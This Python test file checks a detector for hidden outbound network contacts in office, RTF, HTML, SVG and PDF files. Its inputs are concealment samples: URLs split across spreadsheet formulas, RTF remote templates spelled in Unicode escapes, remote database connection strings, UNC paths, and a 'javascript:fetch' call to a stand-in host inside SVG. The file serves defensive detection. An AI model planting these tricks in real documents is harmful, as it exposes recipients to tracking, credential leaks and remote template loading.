"""Contacts of documents that are spelled in pieces, or stand where no address is looked for."""

from __future__ import annotations

import pytest
from pikepdf import Dictionary, Name

from tests.examine.outbound.documents_kit import pdf
from tests.examine.outbound.outbound_kit import HOST, outbound

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
EXCEL = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
FORMULA = f'<worksheet xmlns="{EXCEL}"><sheetData><row><c><f>{{}}</f></c></row></sheetData></worksheet>'

HIDDEN = {
    "formula in pieces": (FORMULA.format('WEBSERVICE("ht"&amp;"tps://x.example/a")'), "sheet1.xml", "opaque"),
    "picture in pieces": (FORMULA.format('_xlfn.IMAGE("//x." &amp; A1)'), "sheet1.xml", "opaque"),
    "template in Unicode": (rf"{{\rtf1{{\*\template \u104?\u116?\u116?ps://{HOST}/a.dot}}}}", "a.rtf", "automatic"),
    "template in Unicode with hexadecimal fallback": (
        rf"{{\rtf1\uc2{{\*\template \u104\'3f\'3fttps://{HOST}/a.dot}}}}",
        "a.rtf",
        "automatic",
    ),
    "template in Unicode without fallback": (
        rf"{{\rtf1\uc0{{\*\template \u104 \u116 tps://{HOST}/a.dot}}}}",
        "a.rtf",
        "automatic",
    ),
    "page of a video": (
        f'<w:p xmlns:w="{WORD}"><w:webVideoPr embeddedHtml="&lt;iframe src=&quot;//{HOST}/&quot;&gt;"/></w:p>',
        "document.xml",
        "conditional",
    ),
    "database of a mail merge": (
        f'<w:s xmlns:w="{WORD}"><w:connectString w:val="Provider=SQLOLEDB;Data Source=db.{HOST}.com;Uid=a"/></w:s>',
        "settings.xml",
        "conditional",
    ),
    "database of a workbook": (
        f'<connections xmlns="{EXCEL}"><dbPr connection="Driver={{x}};Server=tcp:db.{HOST}.com,1433"/></connections>',
        "connections.xml",
        "conditional",
    ),
    "queries of a workbook": (
        '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAAAA==</DataMashup>',
        "item1.xml",
        "opaque",
    ),
    "template of a page for a word processor": (
        f'<html><head><link rel=Attached-Template href="//{HOST}/a.dot"></head></html>',
        "a.html",
        "conditional",
    ),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_contact_that_is_spelled_in_pieces(name: str) -> None:
    data, file, reach = HIDDEN[name]
    assert reach in {fact.reach for fact in outbound(data, file)}, outbound(data, file)


@pytest.mark.parametrize(
    ("data", "file"),
    [
        (FORMULA.format('"ht"&amp;"ml"'), "sheet1.xml"),
        (FORMULA.format("SUM(A1:A2)"), "sheet1.xml"),
        (r"{\rtf1{\*\template \u26085?\u26412?.dot}}", "a.rtf"),
        (f'<w:document xmlns:w="{WORD}"><w:webVideoPr embeddedHtml="&lt;p&gt;a"/></w:document>', "document.xml"),
        (f'<w:s xmlns:w="{WORD}"><w:c w:val="Provider=ACE;Data Source=C:\\a.mdb;Mode=Read"/></w:s>', "settings.xml"),
        (f'<w:s xmlns:w="{WORD}"><w:c w:val="Server=(local);Server=.;Server=db1"/></w:s>', "settings.xml"),
        ('<html><head><link rel=Attached-Template href="a.dot"></head></html>', "a.html"),
    ],
)
def test_documents_that_stay_at_home(data: str, file: str) -> None:
    assert outbound(data, file) == []


def test_formula_whose_host_is_whole_is_named() -> None:
    facts = outbound(FORMULA.format('WEBSERVICE("https://x.example/a?b="&amp;A1)'), "sheet1.xml")
    assert [(fact.host, fact.reach) for fact in facts] == [(HOST, "automatic")]


SVG = f"%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22//{HOST}/a%22/%3E%3C/svg%3E"
UNC = rf"\\{HOST}\a"


def holding(parts: Dictionary) -> bytes:
    """Return a PDF whose root holds an object."""
    return pdf(lambda document, _page: document.Root.__setitem__("/X", document.make_indirect(parts)))


@pytest.mark.parametrize(
    "parts",
    [
        Dictionary(Type=Name.XObject, Ref=Dictionary(F=UNC, Page=0)),
        Dictionary(Subtype=Name.Movie, Movie=Dictionary(F=f"//{HOST}/a")),
        Dictionary(Type=Name.Filespec, UF=f"file:////{HOST}/a"),
    ],
)
def test_file_on_another_machine_is_a_contact_of_a_pdf(parts: Dictionary) -> None:
    facts = outbound(holding(parts), "a.pdf")
    assert {(fact.host, fact.reach) for fact in facts} == {(HOST, "conditional")}


def test_file_of_the_same_folder_is_none_of_a_pdf() -> None:
    near = Dictionary(Type=Name.Filespec, F="a/b.pdf", UF="/c/d.pdf")
    assert outbound(holding(near), "a.pdf") == []


@pytest.mark.parametrize(
    "markup",
    [
        f"<iframe src='ms-word:ofe|u|https://{HOST}/a.docx'></iframe>",
        f"<iframe src='view-source:https://{HOST}/a'></iframe>",
        f"<svg><a><animate attributeName=href values='javascript:fetch(`//{HOST}`)'/></a></svg>",
        f"<svg><use href='data:image/svg+xml,{SVG}'/></svg>",
    ],
)
def test_address_wrapped_in_another(markup: str) -> None:
    assert HOST in {fact.host for fact in outbound(markup) if fact.reach not in ("text", "identifier", "link")}


@pytest.mark.parametrize("address", ["ms-settings:display", "mailto:a@x.example", "view-source:a.html", "tel:1"])
def test_address_that_wraps_none(address: str) -> None:
    assert outbound(f"<iframe src='{address}'></iframe>") == []
